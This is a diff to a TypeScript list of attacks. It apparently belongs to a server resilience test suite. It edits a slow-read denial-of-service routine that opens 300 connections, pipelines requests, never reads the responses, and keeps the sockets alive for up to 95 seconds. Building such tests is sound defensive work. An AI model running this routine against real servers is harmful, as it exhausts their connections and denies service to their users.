@@ -184,11 +184,11 @@ export const ATTACKS: readonly Attack[] = [
     name: "300 readers that do not read",
     slow: true,
     async run(target) {
-      // Many requests for a large file in a row: more than the kernel takes off for a reader.
-      const file = /\/assets\/packages-[\w-]+\.js/.exec(await page(target))?.[0] ?? "/";
-      const connections = await openMany(target, 300, get(target, file).repeat(60), { reads: false });
+      // Several requests in a row: what the kernel does not take off for a reader waits in the process.
+      const connections = await openMany(target, 300, get(target, "/").repeat(40), { reads: false });
       // A side that does not read does not see an end either: a byte that can't be sent shows it.
-      const until = performance.now() + 55_000;
+      // Where the kernel took all of it, the connection only idles, and ends as idle ones do after 65 s.
+      const until = performance.now() + 95_000;
       while (connections.some(({ closed }) => !closed) && performance.now() < until) {
         for (const { socket } of connections) if (socket.writable) socket.write("\r\n");
         await wait(1_000);
